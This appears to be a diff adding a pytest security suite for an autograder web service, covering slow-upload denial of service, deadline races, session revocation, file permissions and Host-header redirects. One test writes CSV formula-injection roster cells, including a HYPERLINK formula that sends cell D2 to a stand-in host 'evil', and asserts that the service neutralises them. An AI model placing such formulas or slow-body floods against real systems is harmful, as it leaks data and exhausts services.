@@ -1,0 +1,217 @@
+"""The service against hostile clients (issue 27): each finding reproduced against a real ``autograder serve``.
+
+Its own small course and server (``--body-grace 3``: a body must arrive within 3 s plus its size at 16 KiB/s),
+so slow bodies are bounded in time; every connection is to loopback and closed by the test.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import socket
+import sqlite3
+import stat
+import time
+
+import make_corpus
+import pytest
+
+from .server import Server, make_course, notebook_bytes, run, submit
+
+pytestmark = pytest.mark.slow
+A1, A2, A3 = "ps1_threshold_metrics", "ps2_roc_auc", "ps3_pr_ap"
+FAR = "2099-01-01T00:00:00+08:00"
+PAST = "2020-01-01T00:00:00+08:00"
+STUDENTS = ["h01", "h02", "h03", "h04", "h05"]
+BOUNDARY = "hostileboundary"
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory):
+    data = tmp_path_factory.mktemp("hostile") / "data"
+    config = {"assignments": {
+        A1: {"deadline": FAR, "attempts_per_24h": 50},
+        A2: {"deadline": PAST, "late": {"penalty": 0.5, "until": FAR}},
+        A3: {"deadline": PAST},
+    }}
+    codes = make_course(data, STUDENTS, config=config)
+    server = Server(data, "--jobs", "1", "--body-grace", "3").start()
+    yield {"server": server, "codes": codes, "data": data}
+    server.stop()
+
+
+def multipart(assignment: str) -> bytes:
+    body = notebook_bytes(make_corpus.solution(assignment))
+    return (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"notebook\"; filename=\"nb.ipynb\"\r\n"
+            f"Content-Type: application/x-ipynb+json\r\n\r\n").encode() + body + f"\r\n--{BOUNDARY}--\r\n".encode()
+
+
+def open_upload(server: Server, code: str, assignment: str, length: int | None = None) -> socket.socket:
+    """A raw upload whose headers are sent (chunked, or with ``length``); the body is the caller's to send."""
+    s = socket.create_connection(("127.0.0.1", server.port), timeout=20)
+    framing = f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"
+    s.sendall((f"POST /api/v1/assignments/{assignment}/submissions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+               f"Authorization: Bearer {code}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
+               f"{framing}\r\n\r\n").encode())
+    return s
+
+
+def chunk(data: bytes) -> bytes:
+    return f"{len(data):x}\r\n".encode() + data + b"\r\n"
+
+
+def answer(s: socket.socket) -> str:
+    """The status line and body of the answer on ``s`` (read until the JSON body ends or the socket closes)."""
+    out = b""
+    while not out.rstrip().endswith(b"}"):
+        part = s.recv(65536)
+        if not part:
+            break
+        out += part
+    return out.decode("utf-8", "replace")
+
+
+def extend(data, student: str, assignment: str, deadline: float) -> None:
+    """The instructor's exception, written as the pages write it (the service reads it on every upload)."""
+    with sqlite3.connect(data / "gradebook.db") as con:
+        con.execute("INSERT OR REPLACE INTO service_overrides VALUES (?, ?, ?, 0, ?, 'test')",
+                    (student, assignment, deadline, time.time()))
+
+
+def stored(data, student: str) -> int:
+    with sqlite3.connect(data / "gradebook.db") as con:
+        return con.execute("SELECT count(*) FROM service_submissions WHERE student_id = ?", (student,)).fetchone()[0]
+
+
+def test_a_body_completed_after_the_deadline_is_late(site):
+    """Finding 1: an upload started before the deadline and finished after it is judged when it is complete."""
+    server, codes, data = site["server"], site["codes"], site["data"]
+    deadline = time.time() + 2.0
+    extend(data, "h01", A3, deadline)  # no late work: after the deadline, refused
+    extend(data, "h02", A2, deadline)  # late work x 0.5: after the deadline, late
+    closed, late = open_upload(server, codes["h01"], A3), open_upload(server, codes["h02"], A2)
+    bodies = {closed: multipart(A3), late: multipart(A2)}
+    for s, body in bodies.items():
+        s.sendall(chunk(body[:40]))  # the first boundary line, before the deadline
+    time.sleep(max(deadline - time.time(), 0) + 0.5)
+    for s, body in bodies.items():
+        s.sendall(chunk(body[40:]) + b"0\r\n\r\n")
+    refused, accepted = answer(closed), answer(late)
+    closed.close(), late.close()
+    assert refused.startswith("HTTP/1.1 403") and "截止" in refused, refused[:300]
+    assert stored(data, "h01") == 0
+    assert accepted.startswith("HTTP/1.1 202"), accepted[:300]
+    with server.client(codes["h02"]) as c:
+        rows = c.get("/api/v1/submissions", params={"assignment": A2}).json()["submissions"]
+    assert [r["late"] for r in rows] == [True] and rows[0]["penalty"] == 0.5
+
+
+def test_a_body_slower_than_its_time_limit_is_dropped(site):
+    """Finding 1: a body that stops arriving is answered 408 after the grace period and nothing is stored."""
+    server, codes, data = site["server"], site["codes"], site["data"]
+    s = open_upload(server, codes["h03"], A1, length=1_000_000)
+    s.sendall(b"--" + BOUNDARY.encode())
+    started = time.monotonic()
+    text = answer(s)
+    waited = time.monotonic() - started
+    s.close()
+    assert text.startswith("HTTP/1.1 408") and "太慢" in text, text[:300]
+    assert waited < 10, waited
+    assert stored(data, "h03") == 0
+
+
+def test_slow_hostile_uploads_leave_a_classmate_answered(site):
+    """Finding 2: eight slow uploads of one student get two slots and then 503 at once; a classmate's upload is
+    answered within 2 s."""
+    server, codes, data = site["server"], site["codes"], site["data"]
+    hostile = [open_upload(server, codes["h04"], A1, length=1_000_000) for _ in range(8)]
+    try:
+        for s in hostile:
+            s.sendall(b"--")
+        time.sleep(0.5)
+        refused = []
+        for s in hostile:
+            s.settimeout(0.5)
+            try:
+                refused.append(answer(s))
+            except TimeoutError:
+                pass
+        assert len(refused) == 6 and all(r.startswith("HTTP/1.1 503") and "retry-after: 5" in r.lower()
+                                         for r in refused), refused
+        started = time.monotonic()
+        with server.client(codes["h05"]) as c:
+            r = submit(c, A1, notebook_bytes(make_corpus.solution(A1)), timeout=2)
+        assert r.status_code == 202, r.text
+        assert time.monotonic() - started < 2
+    finally:
+        for s in hostile:
+            s.close()
+    assert stored(data, "h04") == 0
+
+
+def test_roster_import_reads_nothing_without_a_session(site):
+    """Finding 3: the roster upload is refused from its headers alone, before a byte of the body is read."""
+    server = site["server"]
+    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as s:
+        s.sendall((f"POST /instructor/roster/import HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+                   f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {10 << 20}\r\n\r\n").encode())
+        head = s.recv(65536).decode("utf-8", "replace")  # no body sent: an answer now means none was awaited
+    assert head.split(" ")[1] in ("303", "401", "403"), head[:300]
+
+
+def test_csv_cells_cannot_become_formulas(site, tmp_path):
+    """Finding 7: a roster name or email beginning with =, +, -, @ is written as text (a leading ') in the CLI's
+    CODES.csv and in the codes CSV of the roster page."""
+    server, codes, data = site["server"], site["codes"], site["data"]
+    roster = tmp_path / "evil.csv"
+    roster.write_text('student_id,name,email\nx01,"=HYPERLINK(""http://evil/?""&D2,""点击"")",+1@evil\n'
+                      "x02,@SUM(1),-2@evil\n", encoding="utf-8")
+    out = tmp_path / "codes.csv"
+    run("roster", "import", str(roster), "--data", str(data), "--codes", str(out))
+    rows = list(csv.reader(out.open(encoding="utf-8")))
+    assert rows[1][1].startswith("'=HYPERLINK(") and rows[1][2] == "'+1@evil"
+    assert rows[2][1:3] == ["'@SUM(1)", "'-2@evil"]
+    with server.client() as c:
+        token = c.post("/api/v1/session", json={"code": codes["instructor"]}).json()["csrf_token"]
+        r = c.post("/instructor/roster/import", params={"csrf_token": token},
+                   files={"roster": ("r.csv", "student_id,name,email\nx03,=1+1,@x\n".encode())})
+    assert r.status_code == 200, r.text
+    page_rows = list(csv.reader(io.StringIO(r.text)))
+    assert page_rows[1][1:3] == ["'=1+1", "'@x"]
+
+
+def test_the_data_folder_is_private(site):
+    """Finding 8: the data folder is 0700 and the database files (gradebook.db, -wal, -shm) are 0600."""
+    data = site["data"]
+    assert stat.S_IMODE(data.stat().st_mode) == 0o700
+    files = [p for p in data.iterdir() if p.name.startswith("gradebook.db")]
+    assert {p.name for p in files} >= {"gradebook.db", "gradebook.db-wal"}, files
+    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in files} == {p.name: 0o600 for p in files}
+
+
+def test_no_redirect_carries_the_request_host(site):
+    """Informational finding: no answer puts the client's ``Host`` into ``Location``."""
+    server = site["server"]
+    with server.client() as c:
+        for path in ("/api/v1/assignments/", "/instructor", "/api/v1/submissions/", "/assignments/x/"):
+            r = c.get(path, follow_redirects=False, headers={"Host": "evil.example"})
+            assert "evil.example" not in r.headers.get("location", ""), (path, r.headers.get("location"))
+
+
+def test_signing_out_ends_the_session_on_the_server(site):
+    """Finding 5: after ``DELETE /api/v1/session`` (and ``POST /logout``) the old cookie is refused."""
+    server, codes = site["server"], site["codes"]
+    for way in ("api", "page"):
+        with server.client() as c:
+            token = c.post("/api/v1/session", json={"code": codes["h05"]}).json()["csrf_token"]
+            cookies = dict(c.cookies)
+            assert c.get("/api/v1/session").status_code == 200
+            if way == "api":
+                r = c.delete("/api/v1/session", headers={"X-CSRF-Token": token})
+                assert r.status_code == 200
+            else:
+                r = c.post("/logout", data={"csrf_token": token}, follow_redirects=False)
+                assert r.status_code == 303
+        with server.client(cookies=cookies) as kept:  # the cookie kept (or copied) after signing out
+            r = kept.get("/api/v1/session")
+            assert r.status_code == 401, (way, r.text)
